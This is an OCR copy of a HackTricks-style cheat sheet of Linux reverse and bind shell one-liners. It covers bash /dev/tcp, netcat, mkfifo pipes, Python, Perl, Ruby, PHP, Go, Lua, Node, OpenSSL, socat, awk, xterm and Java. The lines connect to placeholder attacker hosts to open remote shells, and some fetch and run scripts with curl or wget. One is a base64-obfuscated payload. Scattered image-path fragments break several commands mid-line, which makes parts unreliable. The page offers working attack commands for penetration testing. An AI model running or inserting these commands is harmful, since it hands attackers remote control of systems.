Shells - Linux

Support HackTricks and get benefits!
If you have questions about any of these shells you could check them with https://explainshell.com/

Full TTY

Once you get a reverse shell read this page to obtain a full TTY.

Bash | sh

curl https://reverse-shell.sh/ | bash
bash -i >& /dev/tcp/<ATTACKER-IP>/<PORT> 0>&1
sh -i >& /dev/udp/ 0>&1 #UDP
0<&196;exec 196<>/dev/tcp/<ATTACKER-IP>/<PORT>; sh <&196 >&196 2>&196
exec 5<>/dev/tcp/<ATTACKER-IP>/<PORT>; while read line 0<&5; do $line 2>&5 >&5; done
#Short and bypass (cretdits to Dikline)
#after getting the previous shell to get the output to execute
exec >&0
Don't forget to check with other shells: sh, ash, bsh, csh, ksh, zsh, pdksh, tcsh, and bash.

Symbol safe shell

#If you need a more stable connection do:
bash -c 'bash -i >& /dev/tcp/<ATTACKER-IP>/<PORT> 0>&1'
#Stealthier method
#B64 encode the shell like: echo "bash -c 'bash -i >& /dev/tcp/ 0>&1'" | base64 -w0
echo bm9odXAgYmFzaCAtYyAnYmFzaCAtaSA+JiAvZGV2L3RjcC8xMC44LjQuMTg1LzQ0NDQgMD4mMScK | base64 -d | bash 2>/dev/null

Create in file and execute

echo -e '#!/bin/bash\nbash -i >& /dev/tcp/1<ATTACKER-IP>/<PORT> 0>&1' > /tmp/sh.sh; bash /tmp/sh.sh;
wget http://<IP attacker>/shell.sh -P /tmp; chmod +x /tmp/shell.sh; /tmp/shell.shForward Shell

You might find cases where you have an RCE in a web app in a Linux machine but due to Iptables rules or other kinds of filtering you cannot get a reverse shell. This "shell"allows you to maintain a PTY shell through that RCE using pipes inside the victim system. You can find the code in https://github.com/IppSec/forward-shell
You just need to modify:
  • The URL of the vulnerable host
  • The prefix and suffix of your payload (if any)
  • The way the payload is sent (headers? data? extra info?)
Then, you can just send commands or even use the upgrade command to get a full PTY (note that pipes are read and written with an approximate 1.3s delay).nc -e /bin/sh <ATTACKER-IP> <PORT>
nc <ATTACKER-IP> <PORT> | /bin/sh #Blind
rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc <ATTACKER-IP> <PORT> >/tmp/f
nc <ATTACKER-IP> <PORT1>| /bin/bash | nc <ATTACKER-IP> <PORT2>
rm -f /tmp/bkpipe;mknod /tmp/bkpipe p;/bin/sh 0</tmp/bkpipe | nc <ATTACKER-IP> <PORT> 1>/tmp/bkpipe


telnet <ATTACKER-IP> <PORT> | /bin/sh #Blind
rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|telnet <ATTACKER-IP> <PORT> >/tmp/f
telnet <ATTACKER-IP> <PORT> | /bin/bash | telnet <ATTACKER-IP> <PORT>
rm -f /tmp/bkpipe;mknod /tmp/bkpipe p;/bin/sh0</tmp/bkpipe | telnet <ATTACKER-IP> <PORT> 1>/tmp/bkpipe


while true; do nc -l <port>; done
To send the command write it down, press enter and press CTRL+D (to stop STDIN)
export X=Connected; while true; do X=`eval $(whois -h <IP> -p <Port> "Output: $X")`; sleep 1; done


export RHOST="";export RPORT=12345;python -c 'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("/bin/sh")'
python -c 'importsocket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("",1234));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);'
python -c 'import socket,subprocess,os,pty;s=socket.socket(socket.AF_INET6,socket.SOCK_STREAM);s.connect(("dead:beef:2::125c",4343,0,2));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=pty.spawn("/bin/sh");'


perl -e 'use Socket;$i="<ATTACKER-IP>";$p=80;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'
perl -MIO -e '$p=fork;exit,if($p);$c=newIO::Socket::INET(PeerAddr,"[IPADDR]:[PORT]");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'


ruby -rsocket -e'f=TCPSocket.open("",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
ruby -rsocket -e 'exit if fork;c=TCPSocket.new("[IPADDR]","[PORT]");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'


// Using 'exec' is the most common method, but assumes that the file descriptor will be 3.
// Using this method may lead to instances where the connection reaches out to the listener and then closes.
php -r '$sock=fsockopen("",1234);exec("/bin/sh -i <&3 >&3 2>&3");'
// Using 'proc_open' makes no assumptions about what the file descriptor will be.
// See https://security.stackexchange.com/a/198944 for more information
<?php $sock=fsockopen("",1234);$proc=proc_open("/bin/sh -i",array(0=>$sock, 1=>$sock, 2=>$sock), $pipes); ?>
<?php exec("/bin/bash -c 'bash -i >/dev/tcp/ 0>&1'"); ?>


r = Runtime.getRuntime()
p = r.exec(["/bin/bash","-c","exec 5<>/dev/tcp/ATTACKING-IP/80;cat <&5 | while read line; do \$line 2>&5 >&5; done"] as String[])


victim> ncat --exec cmd.exe --allow -vnl 4444 --ssl
attacker> ncat -v 4444 --ssl


echo 'package main;import"os/exec";import"net";func main(){c,_:=net.Dial("tcp","");cmd:=exec.Command("/bin/sh");cmd.Stdin=c;cmd.Stdout=c;cmd.Stderr=c;cmd.Run()}' > /tmp/t.go && go run /tmp/t.go && rm /tmp/t.go


lua -e "require('socket');require('os');t=socket.tcp();t:connect('','1234');os.execute('/bin/sh -i <&3 >&3 2>&3');"
#Windows & Linux
lua5.1 -e 'local host, port = "", 4444 local socket = require("socket") local tcp = socket.tcp() local io = require("io") tcp:connect(host, port); while true do local cmd, status, partial = tcp:receive() local f = io.popen(cmd, 'r') local s =f:read("*a") f:close() tcp:send(s) if status == "closed" then break end end tcp:close()'


var net = require("net"),
cp = require("child_process"),
sh = cp.spawn("/bin/sh", []);
var client = new net.Socket();
client.connect(8080, "", function(){
return /a/; // Prevents the Node.js application form crashing
require('child_process').exec('nc -e /bin/sh [IPADDR] [PORT]')
require('child_process').exec("bash -c 'bash -i >& /dev/tcp/ 0>&1'")
-var x = global.process.mainModule.require
-x('child_process').exec('nc [IPADDR] [PORT] -e /bin/bash')
// If you get to the constructor of a function you can define and execute another function inside a string
// Abuse this syntax to get a reverse shell
var fs = this.process.binding('fs');
var fs = process.binding('fs');


The Attacker (Kali)
openssl req -x509 -newkey rsa:4096 -keyout key.pem -out cert.pem -days 365 -nodes #Generate certificate
openssl s_server -quiet -key key.pem -cert cert.pem -port <l_port> #Here you will be able to introduce the commands
openssl s_server -quiet -key key.pem -cert cert.pem-port <l_port2> #Here yo will be able to get the response
The Victim
openssl s_client -quiet -connect <ATTACKER_IP>:<PORT1>|/bin/bash|openssl s_client -quiet -connect <ATTACKER_IP>:<PORT2>
openssl.exe s_client -quiet -connect <ATTACKER_IP>:<PORT1>|cmd.exe|openssl s_client -quiet -connect<ATTACKER_IP>:<PORT2>


Bind shell

victim> socat TCP-LISTEN:1337,reuseaddr,fork EXEC:bash,pty,stderr,setsid,sigint,sane
attacker> socat FILE:`tty`,raw,echo=0 TCP:<victim_ip>:1337Reverse shell

attacker> socat TCP-LISTEN:1337,reuseaddrFILE:`tty`,raw,echo=0
victim> socat TCP4:<attackers_ip>:1337 EXEC:bash,pty,stderr,setsid,sigint,sane


awk 'BEGIN {s = "/inet/tcp/0/<IP>/<PORT>"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}' /dev/null


while true;do nc -l 79; done
To send the command write it down, press enter and press CTRL+D (to stop STDIN)
export X=Connected; while true; do X=`eval $(finger "$X"@<IP> 2> /dev/null')`; sleep 1; done
export X=Connected; while true; do X=`eval $(finger "$X"@<IP> 2> /dev/null | grep '!'|sed 's/^!//')`; sleep 1; done


#!/usr/bin/gawk -f
Port = 8080
Prompt = "bkd> "
Service = "/inet/tcp/" Port"/0/0"
while (1) {
do {
printf Prompt |& Service
Service |& getline cmd
if (cmd) {
while ((cmd |& getline) > 0)
print $0 |& Service
} while (cmd != "exit")


One of the simplest forms of reverse shell is an xterm session. The following command should be run on the server. It will try to connect back to you ( on TCP port 6001.
xterm-display
To catch the incoming xterm, start an X-Server (:1 – which listens on TCP port 6001). One way to do this is with Xnest (to be run on your system):
Xnest :1
You’ll need to authorise the target to connect to you (command also run on your host):
xhost +targetip


by frohoff NOTE: Java reverse shell also work for Groovy
String host="localhost";
int port=8044;
String cmd="cmd.exe";
Process p=new ProcessBuilder(cmd).redirectErrorStream(true).start();Socket s=new Socket(host,port);InputStream pi=p.getInputStream(),pe=p.getErrorStream(), si=s.getInputStream();OutputStream po=p.getOutputStream(),so=s.getOutputStream();while(!s.isClosed()){while(pi.available()>0)so.write(pi.read());while(pe.available()>0)so.write(pe.read());while(si.available()>0)po.write(si.read());so.flush();po.flush();Thread.sleep(50);try {p.exitValue();break;}catch (Exception e){}};p.destroy();s.close();


Support HackTricks and get benefits!